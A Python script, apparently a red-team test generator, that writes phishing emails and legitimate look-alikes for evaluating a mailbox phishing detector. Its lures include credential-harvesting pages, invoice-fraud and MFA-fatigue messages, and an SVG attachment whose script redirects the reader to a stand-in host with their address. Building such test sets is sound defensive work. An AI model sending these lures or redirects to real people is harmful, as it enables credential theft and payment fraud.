# Targeted cases for the company mailbox (gen_company.py) of a red team
# (round 31) playing the phishing of 2024-2026 that the dev corpus (2001)
# and the earlier red teams did not cover: pages on hosts that page
# builders, app platforms and hosting panels give every customer (Hostinger's
# and Plesk's temporary domains, Zapier Interfaces, Typedream, Hugging Face
# Spaces, a raw GitHub file served as a page, a link-in-bio page, a Looker
# Studio report), a Safe Links address laundered through the attacker's own
# tenant, "mailbox storage full" with the reader's domain in the path, a
# known supplier's hijacked thread with the "updated invoice" on Acrobat,
# attachments that carry the link alone (an SVG with a script, an HTML page
# with a meta refresh, a calendar invitation sent directly), a genuine
# DocuSign envelope from a stranger, device-code and MFA-fatigue lures, an
# image-only lure. And six legitimate mails of the same shapes from known
# correspondents (c19-c24), so precision is tested too.
# Writes only cases/company/phish-lt-*.eml and c19-c24 (removing its own first).
import base64, os
from gen_common import mixed

D = os.path.join(os.path.dirname(os.path.abspath(__file__)), "cases", "company")
A = "anna.kovac@brightwater.example"
B64 = base64.b64encode(A.encode()).decode()
MINE = ("phish-lt-", "c19-", "c20-", "c21-", "c22-", "c23-", "c24-")
for f in os.listdir(D):
    if f.startswith(MINE):
        os.remove(os.path.join(D, f))


def w(name, frm, subj, body, ct="text/html; charset=utf-8", extra="", date="Wed, 26 Nov 2026 10:00:00 +0000"):
    addr = frm.split("<")[-1].rstrip(">")
    raw = ("Return-Path: <%s>\r\nDelivered-To: %s\r\nFrom: %s\r\nTo: %s\r\nSubject: %s\r\nDate: %s\r\n"
           "Message-ID: <%s@case.example>\r\n%sMIME-Version: 1.0\r\nContent-Type: %s\r\n\r\n%s\r\n"
           % (addr, A, frm, A, subj, date, name, extra, ct, body.replace("\r\n", "\n").replace("\n", "\r\n")))
    open(os.path.join(D, name + ".eml"), "w", encoding="utf-8", newline="").write(raw)


def p(name, *a, **k):
    w("phish-lt-" + name, *a, **k)


STRANGER = "Elise Varga <elise.varga@corvid-projects.example>"


def doc(href, what="the signed project documents", who="Elise Varga", firm="Corvid Projects"):
    return ('<p>Hello Anna,</p><p>%s are ready. For security they are kept in our client area: '
            'please sign in with your Microsoft 365 work account to view and download them.</p>'
            '<p><a href="%s">Access documents</a></p><p>Kind regards,<br>%s<br>%s</p>' % (what[0].upper() + what[1:], href, who, firm))


# page builders, app platforms and hosting panels: every customer's page on the provider's domain
p("hostinger-temp", STRANGER, "Remittance advice - payment 2026-11-26",
  doc("https://honeydew-lark-482913.hostingersite.com/remit/view.php#" + B64, "the remittance advice for your invoice 2291"))
p("plesk-page", "Voice Services <voicemail@corvid-projects.example>", "New voice message (0:42) from +44 20 7946 0321",
  '<p>You have a new voice message.</p><p>From: +44 20 7946 0321<br>Length: 0:42<br>Received: 26 Nov 2026 09:51</p>'
  '<p><a href="https://elated-bhabha.203-0-113-45.plesk.page/vm/play?u=' + B64 + '">Listen to the message</a></p>'
  '<p>Sign in with your work account to play the recording.</p>')
p("zapier-interface", "Benefits Team <benefits@corvid-projects.example>", "Open enrollment 2027: confirm your selections by Friday",
  '<p>Hello Anna,</p><p>Open enrollment for 2027 closes on Friday. Employees who do not confirm their selections keep no coverage.</p>'
  '<p><a href="https://secure-benefits-portal.zapier.app/enroll">Review and confirm your benefits</a></p>'
  '<p>You will need to verify your identity with your work email and password.</p><p>Benefits Team</p>')
p("typedream", STRANGER, "Project documents - Corvid Projects", doc("https://corvid-secure-docs.typedream.app/"))
p("hf-space", STRANGER, "Project documents - Corvid Projects", doc("https://corvid-projects-docs.hf.space/?e=" + B64))
p("githack", STRANGER, "Project documents - Corvid Projects",
  doc("https://raw.githack.com/corvid-share/portal/main/index.html#" + B64))
p("link-in-bio", STRANGER, "Project documents - Corvid Projects",
  doc("https://beacons.ai/corvidprojects.docs", "all the documents for the fit-out"))
p("looker-studio", "Corvid Projects Finance <finance.corvidprojects@gmail.com>", "Q4 commission statement available",
  '<p>Hello,</p><p>your Q4 commission statement is ready. Sign in with your business email to view the report and confirm your bank details for the payout.</p>'
  '<p><a href="https://lookerstudio.google.com/s/kX9aB2cD3eF">View statement</a></p><p>Finance</p>')
# Microsoft Safe Links laundered through the sender's own tenant: the target is new here
p("safelinks-laundered", STRANGER, "Project documents - Corvid Projects",
  doc("https://eur02.safelinks.protection.outlook.com/?url=https%3A%2F%2Fcorvid-docs-share.example%2Fview%23" + B64
      + "&data=05%7C02%7Celise.varga%40corvid-projects.example%7C1a2b3c&sdata=Zm9vYmFy&reserved=0"))
# "your mailbox storage is full", the reader's domain in the path of a host new here
p("mailbox-full-domain-path", "brightwater.example Mail Administrator <no-reply@mailbox-quota-center.example>",
  "Mailbox storage full (99%) - incoming messages suspended",
  '<p>Dear anna.kovac,</p><p>Your mailbox has reached <b>99%</b> of its storage quota. Incoming messages are now on hold and will be deleted after 24 hours.</p>'
  '<p>To restore delivery and get 50 GB of free extra storage, validate your account below.</p>'
  '<p><a href="https://mailbox-quota-center.example/brightwater.example/upgrade?user=anna.kovac">Increase storage now</a></p>'
  '<p>brightwater.example IT Helpdesk</p>')
# a known supplier's account taken over, replying in the real thread with the "updated invoice" on Acrobat
p("hijacked-thread-acrobat", "Lisa Grant <lisa.grant@northsidepaper.example>", "Re: Order confirmation / delivery date",
  '<p>Hi Anna,</p><p>apologies, there was an error on the last invoice. Please find the updated invoice and the new payment details here:</p>'
  '<p><a href="https://acrobat.adobe.com/id/urn:aaid:sc:EU:9c1d2e3f-4a5b-4c6d-8e7f-0a1b2c3d4e5f">Invoice_INV-20931_updated.pdf</a></p>'
  '<p>Kindly process it today, as the old account is closed.</p><p>Best regards,<br>Lisa Grant<br>Northside Paper Co.</p>'
  '<blockquote><p>On Tue, 18 Nov 2026, Anna Kovac wrote:<br>Hi Lisa, thanks, Thursday is fine.</p>'
  '<p>Hello Anna, your order ships on Thursday. Catalogue: https://www.northsidepaper.example/catalogue</p></blockquote>',
  extra="In-Reply-To: <thread-northside@case.example>\r\nReferences: <thread-northside@case.example>\r\n")
# attachments that carry the link alone: the message text has none
svg = ('<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"><script type="text/javascript"><![CDATA[\n'
       'var e="' + A + '";var u=atob("aHR0cHM6Ly9jb3J2aWQtcmVtaXQuZXhhbXBsZS9hdXRoLw==");\n'
       'window.location.href=u+"#"+btoa(e);\n]]></script></svg>')
p("svg-script-only", STRANGER, "Payment confirmation - INV 2291",
  *mixed([("text/plain; charset=utf-8", "Hello Anna,\n\nplease find the payment confirmation attached.\n\nKind regards,\nElise Varga\nCorvid Projects\n"),
          ("image/svg+xml", "Payment_Confirmation_INV2291.svg", svg.encode())]))
page = ('<!DOCTYPE html><html><head><meta charset="utf-8">'
        '<meta http-equiv="refresh" content="0; url=https://corvid-remit.example/auth/?login=' + A + '">'
        '<title>Loading document...</title></head><body><p>Loading your document, please wait...</p></body></html>')
p("html-meta-refresh-only", STRANGER, "Payment confirmation - INV 2291",
  *mixed([("text/plain; charset=utf-8", "Hello Anna,\n\nplease find the payment confirmation attached.\n\nKind regards,\nElise Varga\nCorvid Projects\n"),
          ("text/html", "Payment_Confirmation_INV2291.html", page.encode())]))
ics = ("BEGIN:VCALENDAR\nPRODID:-//Microsoft Corporation//Outlook 16.0 MIMEDIR//EN\nVERSION:2.0\nMETHOD:REQUEST\nBEGIN:VEVENT\n"
       "ORGANIZER;CN=Elise Varga:mailto:elise.varga@corvid-projects.example\n"
       "ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN=Anna Kovac:mailto:" + A + "\n"
       "DTSTART:20261127T140000Z\nDTEND:20261127T143000Z\nDTSTAMP:20261126T095500Z\nUID:040000008200E00074C5B7101A82E008@corvid\n"
       "SUMMARY:Contract signing - Corvid Projects / Brightwater\nLOCATION:https://corvid-meet.example/join/8812\n"
       "DESCRIPTION:Please review and sign the contract before the call. Sign in with your Microsoft 365 account: https://corvid-meet.example/join/8812?e=" + B64 + "\n"
       "END:VEVENT\nEND:VCALENDAR\n")
p("ics-direct", STRANGER, "Contract signing - Corvid Projects / Brightwater", ics, ct="text/calendar; charset=utf-8; method=REQUEST")
# a genuine DocuSign envelope from a stranger's account, naming a payment document
p("docusign-genuine-stranger", '"Corvid Projects via DocuSign" <dse_na3@docusign.net>', "Complete with DocuSign: Brightwater_Remittance_Nov2026.pdf",
  '<p>Corvid Projects sent you a document to review and sign.</p><p><a href="https://na3.docusign.net/Signing/EmailStart.aspx?a=7e8f9a0b&acct=91&er=22">REVIEW DOCUMENT</a></p>'
  '<p>Please review the remittance and confirm your banking details. Thank you</p>'
  '<p>Do Not Share This Email: this email contains a secure link to DocuSign.</p><p><a href="https://www.docusign.com/support">Questions about the Document?</a></p>',
  extra="Reply-To: Corvid Projects <corvid.projects.ap@gmail.com>\r\n")
# device code: the real provider's page, the attacker's code
p("device-code-teams", STRANGER, "Teams meeting: contract review",
  '<p>Hello Anna,</p><p>I have set up a secure Teams meeting for the contract review at 14:00.</p>'
  '<p>To join, open <a href="https://login.microsoftonline.com/common/oauth2/deviceauth">the Microsoft sign-in page</a> and enter the meeting code <b>HQ7-K2DF9</b>, then sign in with your work account.</p>'
  '<p>Kind regards,<br>Elise Varga</p>')
# MFA fatigue: no link, a number to call, the company's name from free mail
p("mfa-fatigue-callback", '"Brightwater IT Service Desk" <brightwater.itdesk@outlook.com>', "Mailbox migration tonight - approve the sign-in prompts",
  "Hello Anna,\n\nwe are migrating your mailbox to the new Microsoft 365 tenant tonight. During the migration you will receive several "
  "Microsoft Authenticator sign-in requests. Please approve every request, otherwise your account will be locked.\n\n"
  "If the app asks you for a number, call the service desk at +1 (646) 555-0187 and we will read it to you.\n\n"
  "Brightwater IT Service Desk\n", ct="text/plain; charset=utf-8")
# the lure drawn in a picture, the only link around it
p("image-only", "Microsoft 365 <no-reply@m365-notice-center.example>", "Action required",
  '<a href="https://m365-notice-center.example/p/?u=' + B64 + '"><img src="https://m365-notice-center.example/i/banner.png" alt="" width="600" height="400"></a>')

# legitimate mail of the same shapes from known correspondents
w("c19-colleague-google-form", "Ben Ortiz <ben.ortiz@brightwater.example>", "Team offsite: pick a date",
  "Hi all,\n\nplease vote for the offsite date by Friday: https://docs.google.com/forms/d/e/1FAIpQLSc7Ofz1teAm2Vote3Xy/viewform\n\nThanks,\nBen\n",
  ct="text/plain; charset=utf-8")
w("c20-partner-docusign", '"Rafael Costa via DocuSign" <dse_na2@docusign.net>', "Please DocuSign: Studio_Nove_Brightwater_NDA_2027.pdf",
  '<p>Rafael Costa sent you a document to review and sign.</p><p><a href="https://na2.docusign.net/Signing/EmailStart.aspx?a=5d6e7f&acct=12&er=34">REVIEW DOCUMENT</a></p>'
  '<p>Hi Anna, the NDA for next year, as discussed. Rafael</p><p>Do Not Share This Email: this email contains a secure link to DocuSign.</p>'
  '<p><a href="https://www.docusign.com/support">Questions about the Document?</a></p>',
  extra="Reply-To: Rafael Costa <rafael.costa@studio-nove.example>\r\n")
w("c21-colleague-workers-dev-status", "Clara Nyberg <clara.nyberg@brightwater.example>", "Client portal maintenance tonight",
  "Hi Anna,\n\nthe client portal is down for maintenance tonight from 22:00. Our status page shows progress: https://brightwater-status.cnyberg.workers.dev/\n\nClara\n",
  ct="text/plain; charset=utf-8")
cust_ics = ("BEGIN:VCALENDAR\nPRODID:-//Microsoft Corporation//Outlook 16.0 MIMEDIR//EN\nVERSION:2.0\nMETHOD:REQUEST\nBEGIN:VEVENT\n"
            "ORGANIZER;CN=Daniel Okoro:mailto:daniel.okoro@greenleaf-energy.example\n"
            "ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN=Anna Kovac:mailto:" + A + "\n"
            "DTSTART:20261201T100000Z\nDTEND:20261201T110000Z\nDTSTAMP:20261126T090000Z\nUID:040000008200E00074C5B7101A82E008@greenleaf\n"
            "SUMMARY:Brochure review\nLOCATION:Microsoft Teams Meeting\n"
            "DESCRIPTION:Join the meeting now: https://teams.microsoft.com/l/meetup-join/19%3ameeting_Q2x5%40thread.v2/0\n"
            "END:VEVENT\nEND:VCALENDAR\n")
w("c22-customer-outlook-ics", "Daniel Okoro <daniel.okoro@greenleaf-energy.example>", "Brochure review", cust_ics,
  ct="text/calendar; charset=utf-8; method=REQUEST")
w("c23-colleague-mailbox-nearly-full", "Ben Ortiz <ben.ortiz@brightwater.example>", "Your mailbox is nearly full",
  "Hi Anna,\n\nthe admin centre says your mailbox is at 96% of its quota. Could you turn on the online archive or move old project mail there? "
  "How to: https://www.brightwater.example/intranet/it/archive\n\nBen\n", ct="text/plain; charset=utf-8")
stmt = ('<!DOCTYPE html><html><head><meta charset="utf-8"><title>Statement November 2026</title></head><body>'
        '<h1>Northside Paper Co. - Statement of account</h1><p>Customer: Brightwater Design</p>'
        '<table><tr><td>INV-20877</td><td>EUR 318.40</td><td>paid</td></tr><tr><td>INV-20931</td><td>EUR 512.00</td><td>due 30 Nov</td></tr></table>'
        '<p>Questions: <a href="https://www.northsidepaper.example/contact">northsidepaper.example/contact</a></p></body></html>')
w("c24-supplier-html-statement", "Northside Paper Co. <accounts@northsidepaper.example>", "Statement of account - November 2026",
  *mixed([("text/plain; charset=utf-8", "Dear customer,\n\nplease find your statement of account attached.\n\nNorthside Paper Co. Accounts\n"),
          ("text/html", "Statement_Nov2026.html", stmt.encode())]))
